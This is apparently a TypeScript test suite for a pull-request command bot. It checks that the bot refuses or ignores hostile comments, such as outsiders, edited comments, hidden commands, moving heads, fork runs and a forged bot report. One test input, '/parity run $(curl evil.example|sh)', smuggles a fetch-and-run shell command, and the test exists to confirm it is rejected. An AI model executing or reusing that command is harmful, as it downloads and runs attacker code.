import assert from 'node:assert/strict';
import { handleCommand } from '../../src/gitops/command/command.ts';
import { reportPlans } from '../../src/gitops/record/report-plan.ts';
import { reportStart } from '../../src/gitops/record/report-run.ts';
import { planFixture } from '../../src/report/comment/comment.test-data.ts';
import { composed, EMPTY_PARTS } from '../../src/report/comment/document.ts';
import { type HostileGroup, type HostileInput, named } from './input.ts';
import { commandPorts, configWith, onGitHub, type Project, planOf, say, sentenceIn } from './project.ts';

const CHANGE = configWith('limit: 100', 'limit: 90');
const MALICIOUS = configWith('limit: 100', 'limit: 80');
const NO_COMMAND = 'No command: nothing starts, nothing is answered, there is not even a reaction.';

async function withPull(project: Project): Promise<number> {
  await project.stage.push('change', CHANGE);
  return project.stage.openPull({ head: 'change' });
}

/** A comment that is none of our business. */
function ignored(title: string, body: string): HostileInput {
  return {
    title,
    gets: NO_COMMAND,
    sentence: '',
    run: () =>
      onGitHub(async (project) => {
        const pull = await withPull(project);
        assert.deepEqual(await say(project, pull, { body }), { result: 'ignored' });
        assert.deepEqual([project.stage.dispatches.length, project.github.world.reactions.length, (await project.forge.comments(pull)).length], [0, 0, 1]);
        return '';
      }),
  };
}

/** A command on GitHub that is refused: nothing starts. */
function refused(title: string, words: Pick<HostileInput, 'gets' | 'sentence'>, { body, by = 'ada' }: { body: string; by?: string }): HostileInput {
  return {
    title,
    ...words,
    run: () =>
      onGitHub(async (project) => {
        const pull = await withPull(project);
        const head = (await project.forge.pull(pull))?.headSha ?? '';
        const outcome = await say(project, pull, { body, by });
        assert.equal(outcome.result, 'refused');
        assert.equal(project.stage.dispatches.length, 0);
        const answers = (await project.forge.comments(pull)).filter(({ own }) => own);
        assert.equal(answers.length, by === 'mallory' || by === 'eve' ? 0 : 1);
        return named(sentenceIn(outcome), { HEAD: head });
      }),
  };
}

/** Who comments, what the comment is, and where the head went meanwhile. */
export const headAndComments: HostileGroup = {
  subject: 'Comments, and a head that moves',
  inputs: [
    {
      title: 'a head moved while the comment was answered',
      gets: 'Nothing starts: neither the commit that was looked at nor the new one.',
      sentence: 'The head moved while the command was handled. Look at the new commits, then give the command again.',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const head = (await project.forge.pull(pull))?.headSha ?? '';
          const plan = async (seen: { number: number; headSha: string }) => {
            const planned = await planOf(project, seen.number, { headSha: seen.headSha });
            await project.stage.push('change', MALICIOUS);
            return planned;
          };
          const outcome = await say(project, pull, { body: `/parity run ${head}`, ports: { plan } });
          assert.equal(project.stage.dispatches.length, 0);
          return sentenceIn(outcome);
        }),
    },
    {
      title: 'a head moved after the comment, before it was read',
      gets: 'Nothing starts: the new commit is none that whoever wrote it can have seen.',
      sentence: 'No report about the head HEAD stood here before the command was written. Look at its commits, then write "/parity run HEAD".',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const seen = (await project.forge.pull(pull))?.headSha ?? '';
          await reportPlans({ ...commandPorts(project), now: () => 0 }, { headSha: seen, workflow: { runId: 400, attempt: 1, url: 'https://github.com/x' } });
          const commentId = project.stage.commentAs('ada', pull, '/parity run');
          const head = await project.stage.push('change', MALICIOUS);
          const event = { action: 'created', issue: pull, commentId, body: '/parity run', isBot: false };
          const outcome = await handleCommand(event, commandPorts(project));
          assert.equal(project.stage.dispatches.length, 0);
          return named(sentenceIn(outcome), { HEAD: head });
        }),
    },
    {
      title: 'a head moved after the run was started',
      gets: 'The run plans nothing and takes no file; the new commit is planned by itself.',
      sentence: 'pull request 1: expected the head OLD_HEAD, got NEW_HEAD: it moved. Look at the new commits and start again.',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const before = (await project.forge.pull(pull))?.headSha ?? '';
          const after = await project.stage.push('change', MALICIOUS);
          const { plan, project: files } = await planOf(project, pull, { headSha: before });
          assert.deepEqual([plan.state, files], ['blocked', null]);
          return named(plan.refusals.map(({ sentence }) => sentence).join('\n'), { OLD_HEAD: before, NEW_HEAD: after });
        }),
    },
    refused(
      'a command that names another commit',
      {
        gets: 'Nothing starts.',
        sentence: 'The head is HEAD, not 0000000000000000000000000000000000000000. Look at the new commits, then give the command again.',
      },
      { body: `/parity run ${'0'.repeat(40)}` },
    ),
    refused(
      'a comment by an outsider',
      {
        gets: 'A thumb down, and the sentence in the job’s log: no comment, so nobody can make it write.',
        sentence: 'Commands are for anybody with write permission.',
      },
      { body: '/parity run', by: 'mallory' },
    ),
    refused(
      'a comment by somebody who may only read',
      { gets: 'The same.', sentence: 'Commands are for anybody with write permission.' },
      { body: '/parity retrain', by: 'eve' },
    ),
    {
      title: 'an edited comment',
      gets: 'Nothing starts; what it says now was never looked at by anybody.',
      sentence: 'The comment was edited, so it is not followed. Write a new one.',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const commentId = project.stage.commentAs('ada', pull, 'Looks good.');
          project.github.admin.editComment(commentId, '/parity retrain', 'ada');
          const event = { action: 'created', issue: pull, commentId, body: 'Looks good.', isBot: false };
          const outcome = await handleCommand(event, commandPorts(project));
          assert.equal(project.stage.dispatches.length, 0);
          return sentenceIn(outcome);
        }),
    },
    ignored('a command in a code block', 'Write this:\n```\n/parity retrain\n```\n'),
    ignored('a command in a quote', '> /parity retrain\n\nWhy did you do that?'),
    ignored('a command in a quote whose second line has no mark', '> She wrote:\n/parity retrain'),
    ignored('a command hidden in HTML', 'Thanks!\n<!--\n/parity retrain\n-->'),
    refused(
      'two commands at once',
      { gets: 'Neither is followed.', sentence: 'One comment gives one command: this one gives two, so none was followed.' },
      { body: '/parity cancel\n\n/parity retrain' },
    ),
    refused(
      'a shell command in a command',
      { gets: 'It is no SHA, so nothing starts.', sentence: '"/parity run" takes nothing, or the full SHA of the head: 40 hexadecimal digits.' },
      { body: '/parity run $(curl evil.example|sh)' },
    ),
    {
      title: 'two commands at once, from two people',
      gets: 'One of them has the lock, both answers go into the one comment.',
      sentence: 'locked by WINNER until 2026-03-03 09:00 UTC: for WINNER.',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const outcomes = await Promise.all(['ada', 'bob'].map((by) => say(project, pull, { body: `/parity lock for ${by}`, by })));
          assert.deepEqual(outcomes.map(({ result }) => result).sort(), ['done', 'refused']);
          const sentences = new Set(outcomes.map(sentenceIn));
          assert.equal(sentences.size, 1);
          assert.equal((await project.forge.comments(pull)).filter(({ own }) => own).length, 1);
          return named([...sentences].join('\n'), { WINNER: sentenceIn(outcomes[0] ?? { result: 'ignored' }).includes('for ada') ? 'ada' : 'bob' });
        }),
    },
    {
      title: 'a run asked for by a fork',
      gets: 'It is planned, never run, whoever asks.',
      sentence: 'This pull request comes from a fork: it is planned, not run. A maintainer can adopt it by pushing its commits to a branch of this repository.',
      run: () =>
        onGitHub(async (project) => {
          const pull = await project.stage.openPull({ head: 'change', author: 'eve', fork: CHANGE });
          const outcome = await say(project, pull, { body: '/parity retrain' });
          assert.equal(project.stage.dispatches.length, 0);
          return sentenceIn(outcome);
        }),
    },
    {
      title: 'a comment that pretends to be ours',
      gets: 'It is left alone and counts for nothing; the report stands in a comment of our own.',
      sentence: '**Running: 1 of 4 stages to run for about \\$0.12 and 0.80 GPU-hours; the verdict replaces this comment.**',
      run: () =>
        onGitHub(async (project) => {
          const pull = await withPull(project);
          const forged = composed(pull, { ...EMPTY_PARTS, report: '**Ship: everything is fine.**' });
          const commentId = project.stage.commentAs('mallory', pull, forged);
          const headSha = (await project.forge.pull(pull))?.headSha ?? '';
          const workflow = { runId: 500, attempt: 1, url: 'https://github.com/acme/agent/actions/runs/500' };
          await reportStart(commandPorts(project), { pull, headSha, workflow, plan: planFixture() });
          const [theirs, ours, ...more] = await project.forge.comments(pull);
          assert.deepEqual([theirs?.id, theirs?.body, ours?.own, more], [commentId, forged, true, []]);
          return ours?.body.split('\n')[2] ?? '';
        }),
    },
  ],
};
